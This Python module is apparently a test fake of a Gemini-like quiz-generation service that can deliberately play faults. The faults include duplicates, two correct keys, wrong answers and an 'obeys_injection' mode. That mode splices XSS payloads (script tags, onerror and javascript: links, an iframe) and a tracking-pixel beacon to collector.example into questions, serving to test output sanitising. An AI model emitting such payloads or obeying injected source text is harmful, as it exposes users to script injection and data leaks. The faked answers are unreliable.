"""What is answered to a request: new questions, mended ones, or the keys of those that it gives."""

import json
import random
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from typing import Any

from sandbox.records import Records
from sandbox.services.gemini.asking import Asked
from sandbox.services.gemini.faults import is_marked
from sandbox.services.gemini.languages import language_of
from sandbox.services.gemini.names import NAME
from sandbox.services.gemini.questions import (
    TYPES,
    Choice,
    Question,
    from_source,
    pick,
    text_key,
    topics_of,
)
from sandbox.services.gemini.schemas import Schema, branches_of, empty_value, type_of, word_of
from sandbox.services.gemini.shaping import (
    CHOICES,
    NOTHING,
    NUMBER,
    QUOTE,
    TEXT,
    is_answer,
    is_question,
    key_by,
    names_in,
    right_texts,
    shape,
    shape_question,
    types_in,
)

USUAL_COUNT = 5
MOST = 50
_COUNT = re.compile(
    r"\b(\d{1,2})\s+(?:[\w-]+\s+){0,4}?(?:questions?|items?|quiz|fragen|preguntas|प्रश्न)",
    re.IGNORECASE,
)
_COUNT_AFTER = re.compile(
    r"\b(?:count|number of questions|how many)\W{1,4}(\d{1,2})\b", re.IGNORECASE
)
_DIFFICULTY = re.compile(r"\b(easy|medium|hard)\b", re.IGNORECASE)
_MENDING = re.compile(
    r"\b(?:repair|mend|fix|correct (?:these|them|the)|faults?|wrong with)\b", re.IGNORECASE
)
_ASKED_TWICE = re.compile(r"already|duplicate|same question|twice", re.IGNORECASE)
# What a model that obeys its source would let through.
OBEYED = (
    "<script>window.taken = true</script>",
    '<img src=x onerror="window.taken = true">',
    '<a href="javascript:window.taken = true">Click to unlock the answer</a>',
    "[the answer](javascript:window.taken=true)",
    "![pixel](https://collector.example/pixel.png?user=trainer)",
    '<iframe srcdoc="<script>parent.taken = true</script>"></iframe>',
)


@dataclass
class Writing:
    """One answer in the making. `plays` asks whether a fault is to be played now."""

    asked: Asked
    records: Records
    plays: Callable[[str], bool]

    def text(self) -> str:
        if self.asked.schema is None:
            return self._prose() if not self.asked.is_json else "{}"
        said = json.dumps(self._by(self.asked.schema), ensure_ascii=False)
        # Without the setting a model wraps its JSON for people.
        return said if self.asked.is_json else f"```json\n{said}\n```"

    def _by(self, schema: Schema) -> Any:
        if self._has_questions(schema) and self.plays("wrong_schema"):
            return {"quiz": [question.text for question in self._questions({}, {})]}

        def known(name: str, one: Schema) -> Any:
            items = one.get("items", {})
            if type_of(one) == "array" and is_question(items):
                questions = self._questions(one, items)
                return self._shaped(items, questions)
            if type_of(one) == "array" and is_answer(items) and self._given():
                return [*self._answers(items)]
            if is_question(one):
                return self._shaped(one, self._questions({"maxItems": 1}, one))[0]
            if type_of(one) == "object" and not name:
                return NOTHING
            if type_of(one) == "object":
                return shape(one, known)
            return self._said(word_of(name), one) if name else NOTHING

        return shape(schema, known)

    def _has_questions(self, schema: Schema) -> bool:
        parts = [
            schema,
            *(
                one
                for branch in branches_of(schema)
                for one in branch.get("properties", {}).values()
            ),
        ]
        return any(is_question(part) or is_question(part.get("items", {})) for part in parts)

    def _said(self, word: str, schema: Schema) -> Any:
        topic = topics_of(self.asked.matter)[0].name
        if type_of(schema) == "string" and not schema.get("enum"):
            if word in {"title", "name", "topic", "subject"}:
                return topic
            if word in {"summary", "description", "notes", "text"}:
                return f"Questions about {topic}."
        if type_of(schema) == "array" and word in {"sources", "citations", "urls"}:
            return []
        return empty_value(schema)

    # New questions

    def _questions(self, array: Schema, item: Schema) -> list[Question]:
        given = self._given()
        count = self._count(array, given)
        types = [kind for kind in types_in(item) if kind.upper() in TYPES] or ["SINGLE"]
        types = [kind.upper() for kind in types]
        if given and _MENDING.search(self.asked.words):
            questions = self._mended(types)
        else:
            questions = self._new(types, count, item)
        # A prompt that asks for it is not there any more when its questions come back.
        if is_marked(self.asked.prompt, "disagrees"):
            questions = [replace(question, is_disputed=True) for question in questions]
        for question in questions:
            self.records.put(NAME, "question", text_key(question.text), question.as_record())
        return self._spoilt(questions)

    def _new(
        self, types: list[str], count: int, item: Schema, before: Sequence[Question] = ()
    ) -> list[Question]:
        prompt = "\n".join([self.asked.words, *(question.text for question in before)])
        named = _DIFFICULTY.findall(self.asked.prompt)
        difficulty = named[0].lower() if len({word.lower() for word in named}) == 1 else ""
        found: list[Question] = []
        if names_in(item) & QUOTE and (source := self.asked.source):
            found = pick(
                source, types=types, count=count, seed=prompt, leave_out=prompt, source=source
            )
            found += from_source(source, types=types, count=count - len(found), seed=prompt)
        if len(found) < count:
            found += pick(
                self.asked.matter,
                types=types,
                count=count - len(found),
                seed=prompt,
                language=language_of(prompt),
                leave_out=prompt,
            )
        return [replace(one, difficulty=difficulty) if difficulty else one for one in found]

    def _mended(self, types: list[str]) -> list[Question]:
        """Its own ones as they should be; another one in place of a stranger or a repetition."""
        mended: list[Question] = []
        for one, complaint in _complained_of(self.asked.objects):
            known = None if _ASKED_TWICE.search(complaint) else self._known(one)
            kind = str(one.get("type", types[0])).upper()
            mended += [known] if known else self._new([kind], 1, {}, mended)
        return mended

    def _count(self, array: Schema, given: list[Mapping[str, Any]]) -> int:
        least, most = int(array.get("minItems", 0)), int(array.get("maxItems", MOST))
        named = _COUNT.search(self.asked.prompt) or _COUNT_AFTER.search(self.asked.prompt)
        usual = int(named[1]) if named else len(given) or USUAL_COUNT
        return max(least, min(most, usual, MOST))

    def _spoilt(self, questions: list[Question]) -> list[Question]:
        if len(questions) > 1 and self.plays("duplicates"):
            questions = [*questions[:-1], questions[0]]
        if self.plays("two_keys"):
            questions = [_with_two_keys(question) for question in questions]
        if self.plays("obeys_injection"):
            questions = [_obeying(question, place) for place, question in enumerate(questions)]
        return questions

    def _shaped(self, item: Schema, questions: list[Question]) -> list[Any]:
        given = self._given()
        shaped = []
        for number, question in enumerate(questions):
            numbers = _numbers(given[number]) if number < len(given) else {}
            extra = {**numbers, "sources": []}
            shaped.append(shape_question(item, question, number=number + 1, extra=extra))
        return shaped

    # Questions that were given

    def _given(self) -> list[Mapping[str, Any]]:
        """Questions that stand in the prompt as JSON."""
        return [*_questions_in(self.asked.objects)]

    def _known(self, given: Mapping[str, Any]) -> Question | None:
        text = next((given[name] for name in given if word_of(name) in TEXT), "")
        record = self.records.get(NAME, "question", text_key(str(text)))
        return Question.of_record(record) if record else None

    def _answers(self, item: Schema) -> Iterator[Any]:
        disagrees = self.plays("disagrees")
        for number, given in enumerate(self._given(), start=1):
            yield self._answer(item, given, number, disagrees=disagrees)

    def _answer(
        self, item: Schema, given: Mapping[str, Any], number: int, *, disagrees: bool
    ) -> Any:
        shown = _shown(given)
        question = self._known(given) or _unknown(given, shown)
        is_wrong = disagrees or question.is_disputed
        right = _wrong(question, shown) if is_wrong else _right_in(question, given)
        own = _numbers(given)

        def known(name: str, one: Schema) -> Any:
            word = word_of(name)
            if not name:
                return NOTHING
            if word in own:
                return own[word]
            if word in NUMBER or word == "question":
                return number if type_of(one) in {"integer", "number"} else str(number)
            if word in {"confidence", "confident", "is_sure"}:
                return True if type_of(one) == "boolean" else one.get("maximum", 1)
            if word in {"explanation", "reason", "why", "reasoning"}:
                return question.explanation
            told = key_by(one, question, shown=shown, right=right)
            return told if told is not NOTHING else empty_value(one)

        return shape(next(branches_of(item)), known)

    # Words

    def _prose(self) -> str:
        topic = topics_of(self.asked.matter)[0]
        lines = [f"{term} {what}." for term, what in topic.facts]
        return f"What matters about {topic.name}:\n\n" + "\n".join(f"- {line}" for line in lines)


def _questions_in(found: Any) -> Iterator[Mapping[str, Any]]:
    if isinstance(found, list):
        for one in found:
            yield from _questions_in(one)
    elif isinstance(found, Mapping):
        words = {word_of(name): said for name, said in found.items()}
        if any(isinstance(words.get(name), str) for name in TEXT):
            yield found
            return
        for said in found.values():
            yield from _questions_in(said)


def _complained_of(found: Any, beside: str = "") -> Iterator[tuple[Mapping[str, Any], str]]:
    """Each question with what is said of it beside it."""
    if isinstance(found, list):
        for one in found:
            yield from _complained_of(one, beside)
    elif isinstance(found, Mapping):
        if any(isinstance(said, str) and word_of(name) in TEXT for name, said in found.items()):
            yield found, beside
            return
        for name, said in found.items():
            rest = {other: what for other, what in found.items() if other != name}
            yield from _complained_of(said, json.dumps(rest))


def _numbers(given: Mapping[str, Any]) -> dict[str, Any]:
    return {
        word_of(name): said
        for name, said in given.items()
        if word_of(name) in NUMBER and isinstance(said, int | str)
    }


def _shown(given: Mapping[str, Any]) -> list[str]:
    for name, said in given.items():
        if word_of(name) in CHOICES | {"items"} and isinstance(said, list):
            return [
                str(next((one[key] for key in ("text", "choice", "option") if key in one), ""))
                if isinstance(one, Mapping)
                else str(one)
                for one in said
            ]
    return []


def _unknown(given: Mapping[str, Any], shown: list[str]) -> Question:
    """A stranger's question: the stand-in guesses, and always the same."""
    choices = tuple(Choice(text, is_right=place == 0) for place, text in enumerate(shown))
    kind = str(given.get("type", "SINGLE")).upper()
    is_yes_or_no = kind == "TRUE_FALSE"
    return Question(
        type=kind,
        text="",
        explanation="A guess.",
        topic="",
        choices=() if is_yes_or_no else choices,
        answer=True if is_yes_or_no else None,
    )


def _right_in(question: Question, given: Mapping[str, Any]) -> list[str]:
    """Sides and blanks in the order in which they were asked."""
    sides, lefts = dict(question.pairs), given.get("left")
    if question.pairs and isinstance(lefts, list) and set(lefts) == set(sides):
        return [sides[left] for left in lefts]
    names = given.get("blanks")
    if question.blanks and isinstance(names, list) and set(names) == set(question.blanks):
        return [question.blanks[name][0] for name in names]
    return right_texts(question)


def _wrong(question: Question, shown: list[str]) -> list[str]:
    if question.answer is not None:
        return ["false" if question.answer else "true"]
    if question.value is not None:
        return [f"{question.value + 1:g}"]
    right = right_texts(question)
    if question.choices:
        others = [text for text in shown or [c.text for c in question.choices] if text not in right]
        return others[:1]
    return [*right[1:], right[0]] if len(right) > 1 else ["something else"]


def _with_two_keys(question: Question) -> Question:
    if question.type != "SINGLE":
        return question
    wrong = next(place for place, choice in enumerate(question.choices) if not choice.is_right)
    choices = tuple(
        replace(choice, is_right=choice.is_right or place == wrong)
        for place, choice in enumerate(question.choices)
    )
    return replace(question, choices=choices)


def _obeying(question: Question, place: int) -> Question:
    chance = random.Random(place)  # noqa: S311
    bait = OBEYED[place % len(OBEYED)]
    other = chance.choice(OBEYED)
    choices = tuple(
        replace(choice, text=f"{choice.text} {bait}") if number == 0 else choice
        for number, choice in enumerate(question.choices)
    )
    return replace(
        question,
        text=f"{question.text}\n\n{bait}",
        explanation=f"{question.explanation} {other}",
        choices=choices,
    )
